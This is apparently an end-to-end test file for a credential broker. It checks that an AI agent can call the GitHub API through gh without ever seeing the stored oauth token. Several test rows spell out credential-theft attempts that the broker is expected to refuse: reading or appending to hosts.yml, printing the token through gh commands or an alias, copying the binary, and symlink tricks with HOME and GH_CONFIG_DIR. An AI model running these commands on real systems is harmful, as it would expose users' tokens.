"""gh from apt, at two GitHub Enterprise servers on loopback: its file of logins is a view that gh alone reads."""

import contextlib
import json
from collections.abc import Iterable, Iterator
from pathlib import Path

from agent_broker.enroll.view_plan import name_of
from tests.demo.machine import run_tool
from tests.e2e.clients.certificate import believed, make_certificate
from tests.e2e.clients.row import REFUSED, Client, Row, Stand
from tests.e2e.clients.world import AGENT, PROGRAM, TERMINAL, Clients, new_password, server

GH = "/usr/bin/gh"
HOSTS = ".config/gh/hosts.yml"
CREDENTIAL = name_of(HOSTS)

RULES = f"""[[rule]]
agent = "claude"
credential = "{CREDENTIAL}/UID/content"
modes = ["view"]
"""


@contextlib.contextmanager
def stand(clients: Clients) -> Iterator[Stand]:
    """Two servers and one login, as ``gh auth login --with-token`` keeps it; one is the attacker's, and has none."""
    world = clients.world
    token = new_password("gho_")
    with contextlib.ExitStack() as undo:
        ports = {}
        for name, wanted in (("first", 443), ("second", 0)):  # gh logs in at hosts without a port
            log = world.root / f"logs/github-{name}.jsonl"
            log.touch()
            certificate, key = make_certificate(world.root / "logs", f"github-{name}")
            login = (f"--port={wanted}", f"--token={token}", f"--log={log}")
            options = (*login, f"--certificate={certificate}", f"--key={key}")
            ports[name] = undo.enter_context(server(clients, "github_server", f"github-{name}", *options))
            undo.enter_context(believed(certificate))
        host = "localhost"
        clients.write(".config/gh/config.yml", "git_protocol: https\n")
        clients.write("login", token)
        clients.write(HOSTS, f"{host}:\n    oauth_token: {token}\n")
        logs = [world.root / f"logs/github-{name}.jsonl" for name in ports]
        yield Stand(
            "gh", run_tool(GH, "--version").split()[2],
            {
                "use": f"GH_HOST={host} {GH} api user", "soon": f"GH_HOST={host} timeout -s KILL 5 {GH} api user",
                "gh": GH, "host": host, "hosts": HOSTS,
                "other": f"localhost:{ports['second']}",
            },
            (token,),
            lambda: _presented(token, logs),
            (HOSTS,),
        )  # fmt: skip


def _presented(token: str, logs: Iterable[Path]) -> int:
    lines = [line for each in logs for line in each.read_text().splitlines()]
    return sum(json.loads(line)["presented"] == token for line in lines)


_SET = "GH_HOST={host} {gh} "

CLIENT = Client(
    "gh",
    stand,
    RULES,
    (
        Row("asks the API", PROGRAM, "{use}"),
        Row("asks the API", TERMINAL, "{use}"),
        Row("asks the API, where a rule says so", AGENT, "{use}"),
        Row("says who is logged in", PROGRAM, _SET + "auth status --hostname {host}", says="Logged in to"),
        Row("changes a setting in the file, which is kept", PROGRAM,
            "{gh} config set --host {host} git_protocol ssh && {gh} config get --host {host} git_protocol && {use}",
            says="ssh"),
        Row("changes it back", PROGRAM, "{gh} config set --host {host} git_protocol https && {use}"),
        Row("logs out, and in again, which is kept", PROGRAM,
            "{gh} auth logout --hostname {host} && ! {use} && "
            "{gh} auth login --hostname {host} --with-token < ~/login && {use}"),
        Row("another program reads the file", AGENT, "cat ~/{hosts}; false", REFUSED, "oauth_token: gho_"),
        Row("another program writes the file", AGENT, "echo mine >> ~/{hosts}", REFUSED, "Permission denied"),
        Row("a copy of gh", AGENT, "cp {gh} ~/gh && GH_HOST={host} ~/gh api user", REFUSED, "401"),
        Row("is told to print the token", AGENT, _SET + "auth token; " + _SET + "auth status -t; "
            "{gh} config get --host {host} oauth_token; false", REFUSED, "gho_"),
        Row("an alias prints the token", AGENT, _SET + "alias set mine 'config get --host {host} oauth_token'; "
            "{gh} mine; false", REFUSED),
        Row("answers git with the token", AGENT, r"printf 'protocol=https\nhost={host}\n\n' | "
            "{gh} auth git-credential get; false", REFUSED),
        Row("asks the attacker's server", AGENT, "GH_HOST={other} {gh} api user", REFUSED),
        Row("GH_CONFIG_DIR is the attacker's", AGENT, "mkdir -p own && ln -sf ~/{hosts} own && {use}", REFUSED,
            environment={"GH_CONFIG_DIR": "own"}),
        Row("HOME is the attacker's", AGENT, "mkdir -p own/.config/gh && ln -sf ~/{hosts} own/.config/gh && "
            "HOME=$PWD/own {use}", REFUSED),
        Row("SSL_CERT_FILE is the attacker's", AGENT, "{use}", REFUSED,
            environment={"SSL_CERT_FILE": "/etc/ssl/certs/ca-certificates.crt"}),
    ),
    used="{soon}",
)  # fmt: skip
